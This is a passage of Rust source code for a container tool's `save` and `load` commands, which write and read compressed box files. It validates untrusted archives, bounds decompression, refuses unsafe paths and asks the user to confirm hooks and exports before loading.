//! `tent save` and `tent load`: a box as one file. The file (format 2) is a
//! zstd-compressed tar: `tent-box.json` first (format version, the box's
//! spec and exports, the image's reference), then the committed system's
//! image archive (as `podman save`/`docker save` write it) entry by entry
//! under `image/`, then `tent-box.end`: the sha256 of those entries (their
//! paths, kinds, link targets, sizes and each one's sha256), their total
//! size and count. Home and volumes are never in it. `save` streams the
//! engine's `save` through zstd into the file, and `load` streams the file
//! into the engine's `load`: no temporary copy of the image on disk. Files
//! of format 1 (a gzip'd tar of `tent-box.json` and `image.tar`, written by
//! earlier tents) still load; the magic bytes tell which it is.
//!
//! A box file is a stranger's input. `load` reads its metadata bounded,
//! loads the archive's one image by its id from a copy that names nothing
//! (so no tag of the user's is made, moved or removed), and shows the hooks,
//! mounts and exports the file carries, which need `--yes` or a terminal's
//! answer before anything is made. Commands go only into the user's bin
//! folder, under names any export may have. While a format-2 file streams
//! into the engine, the archive's `manifest.json` (the one file that makes
//! the engine load an image) is held back: it is written, without names,
//! only once the whole file has checked out; a file found damaged on the way
//! ends the engine's stream with a broken tar header instead, so nothing is
//! loaded.
//!
//! `tent save --without-base` writes format 3: the same, less the layers of
//! the image the box was made from, for a machine that has it (`base.rs`).

mod base;

use std::cell::Cell;
use std::collections::{HashMap, HashSet};
use std::fs;
use std::io::{self, BufReader, BufWriter, Read, Seek, Write};
use std::path::{Component, Path, PathBuf};
use std::process::{Child, Stdio};
use std::rc::Rc;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use self::base::{Base, FORMAT_WITHOUT_BASE, LayerFile};
use super::Context;
use crate::boxes::snapshot::SnapshotKind;
use crate::boxes::{BoxSpec, labels, validate_name};
use crate::cli::{LoadArgs, SaveArgs};
use crate::engine::argv;
use crate::error::{CommandFailure, Error, Result};
use crate::export::receipt::{Export, Kind};
use crate::output::Unanswered;
use crate::text::hex;

/// The format `save` writes: zstd, the image's entries streamed in.
pub(super) const FORMAT: u32 = 2;
/// The newest format this tent reads: 3, a file without its base image's
/// layers (`base.rs`).
const NEWEST_FORMAT: u32 = FORMAT_WITHOUT_BASE;
/// gzip, with the image as one `image.tar` (tents before format 2).
pub(super) const LEGACY_FORMAT: u32 = 1;
const META: &str = "tent-box.json";
const IMAGE: &str = "image.tar";
/// Format 2: the image archive's entries are under this folder.
const IMAGE_DIR: &str = "image/";
/// Format 2: the image's checksum, after its entries.
const END: &str = "tent-box.end";
const END_LIMIT: u64 = 64 * 1024;
const GZIP_MAGIC: [u8; 2] = [0x1f, 0x8b];
const ZSTD_MAGIC: [u8; 4] = [0x28, 0xb5, 0x2f, 0xfd];
/// zstd's level for box files, chosen by measurement (docs/performance.md):
/// with a thread per core it keeps up with the engine's `save`, and the file
/// is smaller than `gzip -1`'s.
const ZSTD_LEVEL: i32 = 3;
/// tent-box.json is small; a bigger one is not ours.
const META_LIMIT: u64 = 4 * 1024 * 1024;
/// The image archive's `manifest.json` (one image: a few hundred bytes).
const MANIFEST_LIMIT: u64 = 1024 * 1024;
/// An image's config (its history and labels).
const CONFIG_LIMIT: u64 = 16 * 1024 * 1024;
/// After the image a box file holds only the tar's end (zero blocks).
const TRAILER_LIMIT: u64 = 1024 * 1024;
/// The largest zstd window (as a power of two) a box file may ask for:
/// 16 MiB of memory to decode. tent writes level 3, a 2 MiB window.
const ZSTD_WINDOW_LOG_MAX: u32 = 24;
/// How far a box file may inflate: this many times its size on disk, or
/// [`INFLATE_FLOOR`], whichever is more. An image's files compress 2 to 4
/// times with zstd, so a real box file stays far below; a file that goes
/// beyond is refused as a decompression bomb before more is read (and
/// before more reaches the engine or the disk).
const INFLATE_RATIO: u64 = 100;
const INFLATE_FLOOR: u64 = 1 << 30;
/// What an image archive may hold besides its layers and config, and that
/// the engines read for names to give the image: never passed on.
const NAMING_FILES: [&str; 4] = ["manifest.json", "repositories", "index.json", "oci-layout"];

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub(super) struct BoxFile {
    pub format: u32,
    #[serde(rename = "box")]
    pub box_name: String,
    pub spec: BoxSpec,
    #[serde(default)]
    pub exports: Vec<Export>,
    /// The image's reference inside image.tar.
    pub image: String,
    /// Format 1 only: the sha256 and size of image.tar. Format 2 has them in
    /// `tent-box.end`, after the image.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub image_sha256: String,
    #[serde(default, skip_serializing_if = "is_zero")]
    pub image_size: u64,
    pub tent_version: String,
    /// Format 3 only: the image the box's system is built on, whose layers
    /// the file leaves out.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub base: Option<Base>,
}

fn is_zero(n: &u64) -> bool {
    *n == 0
}

pub(super) fn save(ctx: &Context<'_>, args: &SaveArgs) -> Result<i32> {
    let boxes = ctx.boxes();
    let name = args.box_name.as_str();
    let container = boxes.get(name)?;
    let spec = BoxSpec::from_label(container.label(labels::SPEC)).ok_or_else(|| Error::Snapshot {
        message: format!("box {name:?} has no readable spec label, so tent cannot save it"),
        hint: None,
    })?;
    let exports = crate::export::list(&ctx.paths, ctx.engine.scope(), name)?;
    let out = &args.output;
    // Which image the box's system is built on: known before the commit.
    let bases = match args.without_base {
        true => Some(base::candidates(&ctx.engine, name, &spec.image, container.label(labels::IMAGE_ID))?),
        false => None,
    };

    let spinner = ctx.printer.spinner(format!("copying the system of {name}"));
    let image = ctx.snapshots().commit_private(name, name, SnapshotKind::Save).and_then(|image| {
        let Some(bases) = bases else { return Ok((image, None)) };
        let layers = ctx.engine.image_layers(&image).map(|found| found.map(|(_, layers)| layers).unwrap_or_default());
        match layers.and_then(|layers| base::choose(name, bases, &layers)) {
            Ok(base) => Ok((image, Some(base))),
            Err(err) => {
                let _ = ctx.engine.output(&argv::rmi(&image));
                Err(err)
            }
        }
    });
    let (image, base) = match image {
        Ok(found) => found,
        Err(err) => {
            spinner.finish();
            return Err(err);
        }
    };
    spinner.set_message(format!("writing {}", out.display()));
    let meta = BoxFile {
        format: if base.is_some() { FORMAT_WITHOUT_BASE } else { FORMAT },
        box_name: name.into(),
        spec,
        exports,
        image: image.clone(),
        image_sha256: String::new(),
        image_size: 0,
        tent_version: env!("CARGO_PKG_VERSION").into(),
        base,
    };
    // The engine's archive streams through zstd into the file.
    let mut left_out = LeftOut::default();
    let written = EngineProcess::spawn(ctx, &argv::save_stream(&ctx.engine, &image), false).and_then(|mut saving| {
        let stdout = saving.child.stdout.take().expect("stdout is piped");
        let written = write_box_file(out, &meta, stdout, &mut left_out);
        let saved = saving.finish(&format!("could not save the image of {name}"));
        match written {
            Err(StreamError::Sink(e)) => Err(Error::io(out, e)),
            // The engine's failure first: it is why its archive broke off.
            Err(StreamError::Damaged(detail)) => saved.and(Err(Error::Snapshot {
                message: format!(
                    "the archive `{} save` wrote of {name} is not one tent reads: {}",
                    ctx.engine.name(),
                    sanitize(&detail)
                ),
                hint: Some(format!("check that `{} image inspect {image}` works, then save again", ctx.engine.name())),
            })),
            Err(StreamError::Other(err)) => Err(err),
            // Under its name only once the engine said its archive was whole.
            Ok(tmp) => saved.and_then(|()| tmp.persist(out).map(drop).map_err(|e| Error::io(out, e.error))),
        }
    });
    let _ = ctx.engine.output(&argv::rmi(&image));
    spinner.finish();
    written?;
    let size = fs::metadata(out).map(|m| m.len()).unwrap_or(0);
    let size = super::snapshot::human_size(size);
    let without = match &meta.base {
        Some(base) => format!(
            "; without the {} of {} ({} before compression), which the machine that loads it must have",
            if left_out.layers == 1 { "layer".to_string() } else { format!("{} layers", left_out.layers) },
            base.image,
            super::snapshot::human_size(left_out.bytes)
        ),
        None => String::new(),
    };
    ctx.printer.status(format!(
        "saved {name} to {} ({size}{without}); make it again with `tent load {}`",
        out.display(),
        out.display()
    ));
    Ok(0)
}

/// What a save without the base image left out of the file.
#[derive(Debug, Default)]
struct LeftOut {
    layers: usize,
    bytes: u64,
}

/// An engine client whose stdin or stdout is a pipe tent writes or reads;
/// its stderr goes to a temporary file (no pipe to fill while tent is busy
/// with the other one).
struct EngineProcess {
    child: Child,
    stderr: fs::File,
    argv: Vec<String>,
}

impl EngineProcess {
    fn spawn(ctx: &Context<'_>, args: &[String], stdin: bool) -> Result<Self> {
        let stderr = tempfile::tempfile().map_err(|e| Error::io("temporary file", e))?;
        let argv = ctx.engine.argv(args);
        let mut command = ctx.engine.command(args);
        command
            .stdin(if stdin { Stdio::piped() } else { Stdio::null() })
            .stdout(if stdin { Stdio::null() } else { Stdio::piped() })
            .stderr(stderr.try_clone().map_err(|e| Error::io("temporary file", e))?);
        let child = command.spawn().map_err(|e| Error::spawn(&argv[0], &e))?;
        Ok(EngineProcess { child, stderr, argv })
    }

    /// Waits for it; a failure names `what` and carries its stderr.
    fn finish(mut self, what: &str) -> Result<()> {
        drop(self.child.stdin.take());
        drop(self.child.stdout.take());
        let status = self.child.wait().map_err(|e| Error::spawn(&self.argv[0], &e))?;
        if status.success() {
            return Ok(());
        }
        let mut stderr = Vec::new();
        let _ = self.stderr.rewind();
        let _ = (&mut self.stderr).take(64 * 1024).read_to_end(&mut stderr);
        Err(Error::Engine {
            what: what.into(),
            failure: CommandFailure {
                argv: self.argv,
                status: status.code(),
                stderr: String::from_utf8_lossy(&stderr).into_owned(),
            },
        })
    }
}

pub(super) fn load(ctx: &Context<'_>, args: &LoadArgs) -> Result<i32> {
    let mut magic = [0u8; 4];
    let read = fs::File::open(&args.file).and_then(|f| f.take(4).read(&mut magic));
    let n = read.map_err(|e| Error::io(&args.file, e))?;
    if magic[..n] == ZSTD_MAGIC {
        load_streamed(ctx, args)
    } else if magic[..n.min(2)] == GZIP_MAGIC {
        load_legacy(ctx, args)
    } else {
        Err(not_a_box_file(&args.file))
    }
}

fn not_a_box_file(file: &Path) -> Error {
    Error::Snapshot {
        message: format!("{} is not a tent box file (not zstd or gzip, with {META} at its start)", file.display()),
        hint: Some("make one with `tent save BOX -o FILE`".into()),
    }
}

/// A box file of format 2: its metadata first; then its image streams from
/// the file into the engine's `load`, checked on the way.
fn load_streamed(ctx: &Context<'_>, args: &LoadArgs) -> Result<i32> {
    let file = &args.file;
    let mut meta = read_streamed_meta(file)?;
    if meta.format != FORMAT && meta.format != FORMAT_WITHOUT_BASE {
        return Err(damaged(file, format!("a zstd box file of format {}", meta.format)));
    }
    if let Some(base) = &meta.base {
        base::check_present(&ctx.engine, base, file)?;
    }
    let (name, bin_dir, plan) = prepare(ctx, args, &mut meta)?;
    if !plan.asks.is_empty() && !args.yes && !ctx.printer.can_ask() {
        // Refused below for want of an answer: first say whether the file
        // is whole (nothing goes to the engine).
        let spinner = ctx.printer.spinner(format!("checking {}", file.display()));
        let checked = stream_image(file, &meta, &mut tar::Builder::new(Gate::new(io::sink())));
        spinner.finish();
        checked.map_err(|e| e.into_error(file))?;
    }
    confirm(ctx, args, &name, &plan)?;

    let spinner = ctx.printer.spinner(format!("loading the system of {name}"));
    let mut loading = match EngineProcess::spawn(ctx, &argv::load_stream(), true) {
        Ok(loading) => loading,
        Err(err) => {
            spinner.finish();
            return Err(err);
        }
    };
    let stdin = loading.child.stdin.take().expect("stdin is piped");
    let mut builder = tar::Builder::new(Gate::new(BufWriter::with_capacity(1 << 20, stdin)));
    let outcome = stream_image(file, &meta, &mut builder).and_then(|checked| {
        // Nothing is loaded before the manifest: what is there now was there.
        let existed = ctx.engine.image_exists(&checked.id).map_err(StreamError::Other)?;
        let mut header = tar::Header::new_gnu();
        header.set_size(checked.manifest.len() as u64);
        header.set_mode(0o444);
        builder.append_data(&mut header, "manifest.json", checked.manifest.as_slice()).map_err(StreamError::Sink)?;
        Ok((checked.id, existed))
    });
    let outcome = match outcome {
        Ok(done) => builder.into_inner().and_then(Gate::close).map(|()| done).map_err(StreamError::Sink),
        Err(err) => {
            builder.get_mut().poison();
            drop(builder);
            Err(err)
        }
    };
    let loaded = loading.finish(&format!("could not load the image of {name}"));
    spinner.finish();
    let (id, existed) = match outcome {
        Ok(done) => {
            loaded?;
            done
        }
        Err(StreamError::Sink(e)) => {
            // The engine stopped reading: its own error says why.
            loaded?;
            return Err(Error::io(format!("the stream to `{} load`", ctx.engine.name()), e));
        }
        Err(err) => return Err(err.into_error(file)),
    };
    finish_load(ctx, args, &meta, &name, &plan, &bin_dir, &id, existed)
}

/// A box file of format 1 (gzip): checked whole into a temporary folder,
/// then loaded from a copy without names.
fn load_legacy(ctx: &Context<'_>, args: &LoadArgs) -> Result<i32> {
    let tmp =
        tempfile::Builder::new().prefix("tent-load-").tempdir().map_err(|e| Error::io("temporary directory", e))?;
    let spinner = ctx.printer.spinner(format!("checking {}", args.file.display()));
    let read = read_box_file(&args.file, tmp.path()).and_then(|(meta, image_tar)| {
        if meta.format != LEGACY_FORMAT {
            return Err(damaged(&args.file, format!("a gzip box file of format {}", meta.format)));
        }
        // The archive's one image, by id, with no name in it: nothing the
        // file holds can name (and so re-point or untag) an image of yours.
        let untagged = tmp.path().join("untagged.tar");
        let id = untagged_archive(&image_tar, &untagged).map_err(|detail| damaged(&args.file, sanitize(&detail)))?;
        let _ = fs::remove_file(&image_tar);
        Ok((meta, id, untagged))
    });
    spinner.finish();
    let (mut meta, id, image_tar) = read?;
    let (name, bin_dir, plan) = prepare(ctx, args, &mut meta)?;
    confirm(ctx, args, &name, &plan)?;

    let spinner = ctx.printer.spinner(format!("loading the system of {name}"));
    let tar_path =
        image_tar.to_str().ok_or_else(|| Error::usage("the temporary directory's path is not UTF-8", None))?;
    let existed = ctx.engine.image_exists(&id)?;
    let loaded = ctx.engine.capture(&format!("could not load the image of {name}"), &argv::load(tar_path));
    spinner.finish();
    loaded?;
    drop(tmp);
    finish_load(ctx, args, &meta, &name, &plan, &bin_dir, &id, existed)
}

/// The new box's name (free on the engine), the bin folder and what the
/// file asks for (its refusals shown).
fn prepare(ctx: &Context<'_>, args: &LoadArgs, meta: &mut BoxFile) -> Result<(String, PathBuf, LoadPlan)> {
    let name = args.name.clone().unwrap_or_else(|| meta.box_name.clone());
    validate_name(&name)?;
    if ctx.engine.inspect(&name)?.is_some() {
        return Err(Error::Snapshot {
            message: format!("a container named {name:?} already exists on {}", ctx.engine.describe()),
            hint: Some(format!("load it under another name: `tent load {} --name NEW`", args.file.display())),
        });
    }
    // A loaded box was made by hand: no manifest's `apply --prune` owns it.
    meta.spec.manifest = None;
    let bin_dir = ctx.bin_dir();
    let plan = LoadPlan::new(meta, &name, &bin_dir);
    for refused in &plan.refused {
        ctx.printer.warn(refused);
    }
    Ok((name, bin_dir, plan))
}

/// After the engine loaded image `id`: the box made on it, its exports made
/// again. `existed`: the image was there before (so it is not removed when
/// the box cannot be made).
#[allow(clippy::too_many_arguments)]
fn finish_load(
    ctx: &Context<'_>,
    args: &LoadArgs,
    meta: &BoxFile,
    name: &str,
    plan: &LoadPlan,
    bin_dir: &Path,
    id: &str,
    existed: bool,
) -> Result<i32> {
    if !ctx.engine.image_exists(id)? {
        return Err(Error::Snapshot {
            message: format!(
                "{} loaded, but {} has no image {id}, the one the file holds",
                args.file.display(),
                ctx.engine.describe()
            ),
            hint: Some("save the box again with `tent save BOX -o FILE`".into()),
        });
    }
    let boxes = ctx.boxes();
    let image = match ctx.snapshots().adopt_image(id, name) {
        Ok(image) => image,
        Err(err) => {
            if !existed {
                let _ = ctx.engine.output(&argv::rmi(id));
            }
            return Err(err);
        }
    };
    ctx.printer.step(format!("creating {name} from {}", args.file.display()));
    if let Err(err) = boxes.create_from(name, &meta.spec, true, Some(&image)) {
        let _ = ctx.engine.output(&argv::rmi(&image));
        return Err(err);
    }
    let mut problems = plan.refused.len();
    for export in &plan.exports {
        let shown = format!("{} {}", export.kind.as_str(), sanitize(&export.name));
        match reexport(ctx, name, export, bin_dir) {
            Ok(()) => ctx.printer.status(format!("exported {shown} again")),
            Err(err) => {
                problems += 1;
                ctx.printer.warn(format!("could not export {shown} again: {}", sanitize(&err.to_string())));
            }
        }
    }
    ctx.printer.status(format!("{name} is ready: `tent enter {name}`"));
    Ok(if problems == 0 { 0 } else { crate::error::exit::FAILURE })
}

fn sanitize(text: &str) -> String {
    crate::output::sanitize(text).into_owned()
}

/// What loading a box file does beyond making a plain box: what runs as root
/// in it, what it mounts, and what it writes on the host (exports). Shown
/// before anything is made; it needs `--yes` or a terminal's answer.
#[derive(Debug, Default, PartialEq)]
pub(super) struct LoadPlan {
    /// One line each, made safe for a terminal.
    pub asks: Vec<String>,
    /// The exports to make again (bins in the user's own bin directory).
    pub exports: Vec<Export>,
    /// Exports the file holds that tent refuses, and why.
    pub refused: Vec<String>,
}

impl LoadPlan {
    pub(super) fn new(meta: &BoxFile, name: &str, bin_dir: &Path) -> Self {
        let mut plan = LoadPlan::default();
        let spec = &meta.spec;
        let mut ask = |what: &str, value: &str| plan.asks.push(format!("{what}: {}", sanitize(value)));
        for hook in &spec.pre_init_hooks {
            ask("runs as root in the box at every start, before provisioning", hook);
        }
        for hook in &spec.init_hooks {
            ask("runs as root in the box once, when it is made", hook);
        }
        for hook in &spec.start_hooks {
            ask("runs as root in the box at every start", hook);
        }
        for hook in &spec.attach_hooks {
            ask("runs as you in the box at each `tent enter`", hook);
        }
        if !spec.packages.is_empty() {
            ask("installs as root in the box", &spec.packages.join(" "));
        }
        for volume in &spec.volumes {
            ask("mounts in the box", volume);
        }
        for arg in &spec.engine_args {
            ask("passes to the engine", arg);
        }
        if let Some(home) = &spec.home {
            ask("makes and mounts a home of its own", &home.display().to_string());
        }
        if spec.sudo_nopasswd {
            ask("a rootful box", "sudo without a password (anything in it can become host root)");
        }
        for export in &meta.exports {
            let shown = sanitize(&export.name);
            match export.kind {
                Kind::Bin => {
                    if let Err(why) = crate::export::wrapper::validate_command_name(&export.name) {
                        plan.refused.push(format!("not exporting command {shown} again: {}", sanitize(&why)));
                        continue;
                    }
                    let path = bin_dir.join(&export.name);
                    let mut line =
                        format!("writes command {}: runs {} in {name}", path.display(), sanitize(&export.request));
                    if export.dir.as_deref().is_some_and(|d| d != bin_dir) {
                        line.push_str(" (the file named another folder; tent load writes commands only here)");
                    }
                    plan.asks.push(sanitize(&line));
                    plan.exports.push(Export { dir: Some(bin_dir.to_path_buf()), ..export.clone() });
                }
                Kind::App => {
                    plan.asks
                        .push(format!("adds app {shown} of {name} to your menu (from {})", sanitize(&export.request)));
                    plan.exports.push(export.clone());
                }
                Kind::Entry => {
                    plan.asks.push(format!("adds {name}'s own launcher to your menu"));
                    plan.exports.push(export.clone());
                }
            }
        }
        plan
    }
}

/// Shows what the file asks for and gets the user's yes: `--yes`, or an
/// answer on a terminal. Nothing is made before.
fn confirm(ctx: &Context<'_>, args: &LoadArgs, name: &str, plan: &LoadPlan) -> Result<()> {
    if plan.asks.is_empty() {
        return Ok(());
    }
    let file = sanitize(&args.file.display().to_string());
    ctx.printer.status(format!("{file} asks for this; what runs in the box runs as its root:"));
    for line in &plan.asks {
        ctx.printer.status(format!("  {line}"));
    }
    let unanswered = Unanswered::Refuse(Error::usage(
        format!("not loading {file} without a confirmation of what it asks for (listed above)"),
        Some(format!("read the list, then run it on a terminal, or pass --yes: `tent load {file} --yes`")),
    ));
    ctx.printer.agree(args.yes, &format!("Load {name} with these?"), unanswered, &format!("{file} was not loaded"))
}

fn reexport(ctx: &Context<'_>, name: &str, export: &Export, bin_dir: &Path) -> Result<()> {
    let exporter = ctx.exporter(&ctx.engine, name, false)?;
    match export.kind {
        Kind::App => exporter.export_app(&export.request).map(drop),
        Kind::Bin => exporter.export_bin(&export.request, Some(&export.name), bin_dir).map(drop),
        Kind::Entry => exporter.export_entry(ctx.config.entry.terminal.as_deref()).map(drop),
    }
}

/// A path inside an image archive, as `a/b`: `./` dropped; absolute paths,
/// `..` and non-UTF-8 are refused.
fn archive_path(path: &Path) -> std::result::Result<String, String> {
    let mut parts = Vec::new();
    for c in path.components() {
        match c {
            Component::Normal(p) => {
                parts.push(p.to_str().ok_or_else(|| format!("the image holds a path that is not UTF-8: {path:?}"))?)
            }
            Component::CurDir => {}
            _ => return Err(format!("the image holds the path {:?}", sanitize(&path.to_string_lossy()))),
        }
    }
    if parts.is_empty() {
        return Err("the image holds an empty path".into());
    }
    Ok(parts.join("/"))
}

fn open_archive(path: &Path) -> std::result::Result<tar::Archive<fs::File>, String> {
    fs::File::open(path).map(tar::Archive::new).map_err(|e| format!("{}: {e}", path.display()))
}

/// Reads the regular file `entry`, at most `limit` bytes.
fn read_entry(entry: &mut tar::Entry<'_, impl Read>, what: &str, limit: u64) -> std::result::Result<Vec<u8>, String> {
    if entry.header().entry_type() != tar::EntryType::Regular {
        return Err(format!("the image's {what} is not a file"));
    }
    if entry.size() > limit {
        return Err(format!("the image's {what} is larger than {limit} bytes"));
    }
    let mut bytes = Vec::new();
    entry.take(limit).read_to_end(&mut bytes).map_err(|e| format!("the image's {what}: {e}"))?;
    Ok(bytes)
}

/// The manifest of an image archive (docker-archive, as `podman save` and
/// `docker save` write it): it must describe exactly one image; returns that
/// entry and its config's path.
pub(super) fn parse_manifest(
    bytes: &[u8],
) -> std::result::Result<(serde_json::Map<String, serde_json::Value>, String), String> {
    let list: Vec<serde_json::Map<String, serde_json::Value>> =
        serde_json::from_slice(bytes).map_err(|e| format!("the image's manifest.json: {e}"))?;
    let [entry] = <[_; 1]>::try_from(list)
        .map_err(|list: Vec<_>| format!("the image archive holds {} images; a box file holds one", list.len()))?;
    let config = entry.get("Config").and_then(|c| c.as_str()).ok_or("the image's manifest.json names no config")?;
    let config = archive_path(Path::new(config))?;
    Ok((entry, config))
}

/// Makes `out` from the image archive `src`: the same image with no name
/// in it (the manifest's `RepoTags` emptied; `repositories`, `index.json`
/// and `oci-layout`, where engines also find names, left out), so loading
/// it tags nothing. Returns the image's id, which both engines give an
/// image: the sha256 of its config.
pub(super) fn untagged_archive(src: &Path, out: &Path) -> std::result::Result<String, String> {
    // 1. The manifest (seeking past the layers).
    let mut manifest = None;
    let mut archive = open_archive(src)?;
    for entry in archive.entries_with_seek().map_err(|e| format!("the image: {e}"))? {
        let mut entry = entry.map_err(|e| format!("the image: {e}"))?;
        if archive_path(&entry.path().map_err(|e| e.to_string())?)? == "manifest.json" {
            if manifest.is_some() {
                return Err("the image holds manifest.json twice".into());
            }
            manifest = Some(read_entry(&mut entry, "manifest.json", MANIFEST_LIMIT)?);
        }
    }
    let (mut entry, config) = parse_manifest(&manifest.ok_or("the image has no manifest.json")?)?;
    if NAMING_FILES.contains(&config.as_str()) {
        return Err(format!("the image's config is {config}"));
    }
    // 2. The config, whose sha256 is the image's id.
    let mut id = None;
    let mut archive = open_archive(src)?;
    for e in archive.entries_with_seek().map_err(|e| format!("the image: {e}"))? {
        let mut e = e.map_err(|e| format!("the image: {e}"))?;
        if archive_path(&e.path().map_err(|e| e.to_string())?)? == config {
            if id.is_some() {
                return Err(format!("the image holds {config} twice"));
            }
            id = Some(hex(&Sha256::digest(read_entry(&mut e, "config", CONFIG_LIMIT)?)));
        }
    }
    let id = id.ok_or_else(|| format!("the image has no config {config}"))?;
    // 3. The copy, without names.
    entry.insert("RepoTags".into(), serde_json::Value::Null);
    let manifest = serde_json::to_vec(&[entry]).expect("a manifest serializes");
    let written = (|| -> io::Result<()> {
        let mut builder = tar::Builder::new(BufWriter::new(fs::File::create(out)?));
        let mut archive = open_archive(src).map_err(io::Error::other)?;
        for e in archive.entries()? {
            let mut e = e?;
            let path = archive_path(&e.path()?).map_err(io::Error::other)?;
            let kind = e.header().entry_type();
            if NAMING_FILES.contains(&path.as_str()) || kind == tar::EntryType::XGlobalHeader {
                continue;
            }
            let mut header = e.header().clone();
            header.set_size(e.size());
            if kind.is_symlink() || kind.is_hard_link() {
                let target = e.link_name()?.ok_or_else(|| io::Error::other(format!("link {path} has no target")))?;
                builder.append_link(&mut header, &path, target)?;
            } else {
                builder.append_data(&mut header, &path, &mut e)?;
            }
        }
        let mut header = tar::Header::new_gnu();
        header.set_size(manifest.len() as u64);
        header.set_mode(0o444);
        builder.append_data(&mut header, "manifest.json", manifest.as_slice())?;
        builder.into_inner()?.flush()
    })();
    written.map_err(|e| format!("the image: {e}"))?;
    Ok(id)
}

#[cfg(test)]
fn hash_file(path: &Path) -> Result<(String, u64)> {
    let mut file = fs::File::open(path).map_err(|e| Error::io(path, e))?;
    let mut hasher = HashingWriter { hasher: Sha256::new(), inner: io::sink(), len: 0 };
    io::copy(&mut file, &mut hasher).map_err(|e| Error::io(path, e))?;
    Ok((hex(&hasher.hasher.finalize()), hasher.len))
}

struct HashingWriter<W> {
    hasher: Sha256,
    inner: W,
    len: u64,
}

impl<W: Write> Write for HashingWriter<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        let n = self.inner.write(buf)?;
        self.hasher.update(&buf[..n]);
        self.len += n as u64;
        Ok(n)
    }
    fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }
}

/// What went wrong while an image streamed from one place to another.
#[derive(Debug)]
enum StreamError {
    /// What was read is damaged, truncated or not what tent writes.
    Damaged(String),
    /// Writing failed (a full disk, or the engine stopped reading).
    Sink(io::Error),
    Other(Error),
}

impl StreamError {
    fn into_error(self, file: &Path) -> Error {
        match self {
            StreamError::Damaged(detail) => damaged(file, sanitize(&detail)),
            StreamError::Sink(e) => Error::io(file, e),
            StreamError::Other(err) => err,
        }
    }
}

fn bad(detail: impl std::fmt::Display) -> StreamError {
    StreamError::Damaged(detail.to_string())
}

/// The kinds of entries an image archive holds.
#[derive(Debug, Clone, Copy, PartialEq)]
enum EntryKind {
    File,
    Dir,
    Symlink,
    Link,
}

impl EntryKind {
    /// None for what tent skips (a pax global header); an error for what
    /// no image archive holds (devices, fifos, sparse files).
    fn of(kind: tar::EntryType) -> std::result::Result<Option<Self>, String> {
        Ok(Some(match kind {
            tar::EntryType::Regular | tar::EntryType::Continuous => EntryKind::File,
            tar::EntryType::Directory => EntryKind::Dir,
            tar::EntryType::Symlink => EntryKind::Symlink,
            tar::EntryType::Link => EntryKind::Link,
            tar::EntryType::XGlobalHeader => return Ok(None),
            other => return Err(format!("the image holds an entry of type {:?}", other.as_byte() as char)),
        }))
    }

    fn tar_type(self) -> tar::EntryType {
        match self {
            EntryKind::File => tar::EntryType::Regular,
            EntryKind::Dir => tar::EntryType::Directory,
            EntryKind::Symlink => tar::EntryType::Symlink,
            EntryKind::Link => tar::EntryType::Link,
        }
    }

    /// A plain header of this kind: only the mode's permission bits and the
    /// mtime are taken from what was read.
    fn header(self, size: u64, source: &tar::Header) -> tar::Header {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(self.tar_type());
        header.set_size(if self == EntryKind::File { size } else { 0 });
        header.set_mode(source.mode().map_or(0o644, |m| m & 0o777));
        header.set_mtime(source.mtime().unwrap_or(0));
        header
    }
}

/// The checksum of an image's entries, written after them as `tent-box.end`:
/// the sha256 of each entry's path, kind, link target, size and its own
/// sha256, in order; their total size and count.
#[derive(Default)]
struct ImageDigest {
    all: Sha256,
    size: u64,
    entries: u64,
}

#[derive(Debug, PartialEq, Serialize, Deserialize)]
struct EndRecord {
    image_sha256: String,
    image_size: u64,
    entries: u64,
}

impl ImageDigest {
    fn add(&mut self, path: &str, kind: EntryKind, link: &str, size: u64, sha: &[u8]) {
        self.all.update(path.as_bytes());
        self.all.update([0, kind.tar_type().as_byte()]);
        self.all.update(link.as_bytes());
        self.all.update([0]);
        self.all.update(size.to_le_bytes());
        self.all.update(sha);
        self.size += size;
        self.entries += 1;
    }

    fn end(self) -> EndRecord {
        EndRecord { image_sha256: hex(&self.all.finalize()), image_size: self.size, entries: self.entries }
    }
}

/// Hashes what is read through it, and remembers whether reading failed
/// (so a failed copy says which side failed).
struct HashingReader<R> {
    inner: R,
    hasher: Sha256,
    len: u64,
    failed: Option<String>,
}

impl<R: Read> HashingReader<R> {
    fn new(inner: R) -> Self {
        HashingReader { inner, hasher: Sha256::new(), len: 0, failed: None }
    }
}

impl<R: Read> Read for HashingReader<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        match self.inner.read(buf) {
            Ok(n) => {
                self.hasher.update(&buf[..n]);
                self.len += n as u64;
                Ok(n)
            }
            Err(e) => {
                self.failed = Some(e.to_string());
                Err(e)
            }
        }
    }
}

/// Copies one entry read from an archive into `out` under `path`, hashing
/// it; returns its sha256.
fn copy_entry<W: Write>(
    entry: &mut tar::Entry<'_, impl Read>,
    kind: EntryKind,
    path: &str,
    link: &str,
    out: &mut tar::Builder<W>,
) -> std::result::Result<Vec<u8>, StreamError> {
    let size = entry.size();
    let mut header = kind.header(size, entry.header());
    match kind {
        EntryKind::File => append_file(entry, header, path, size, out),
        EntryKind::Dir => {
            out.append_data(&mut header, path, io::empty()).map(|()| Vec::new()).map_err(StreamError::Sink)
        }
        EntryKind::Symlink | EntryKind::Link => {
            out.append_link(&mut header, path, link).map(|()| Vec::new()).map_err(StreamError::Sink)
        }
    }
}

/// Appends the `size` bytes `data` gives to `out` as the file `path` of
/// `header`, hashing them; returns their sha256.
fn append_file<W: Write>(
    data: impl Read,
    mut header: tar::Header,
    path: &str,
    size: u64,
    out: &mut tar::Builder<W>,
) -> std::result::Result<Vec<u8>, StreamError> {
    hashed(data, path, size, |reader| out.append_data(&mut header, path, reader))
}

/// Copies the `size` bytes of `data` (the file `path` of an archive) to
/// `to`, hashing them; returns their sha256.
fn hash_data(data: impl Read, path: &str, size: u64, to: &mut impl Write) -> std::result::Result<Vec<u8>, StreamError> {
    hashed(data, path, size, |reader| io::copy(reader, to).map(drop))
}

/// Runs `copy` on `data` through a hash: a failed read is the archive's
/// fault (damaged), a failed write the sink's, and `size` bytes must come.
fn hashed<R: Read>(
    data: R,
    path: &str,
    size: u64,
    copy: impl FnOnce(&mut HashingReader<R>) -> io::Result<()>,
) -> std::result::Result<Vec<u8>, StreamError> {
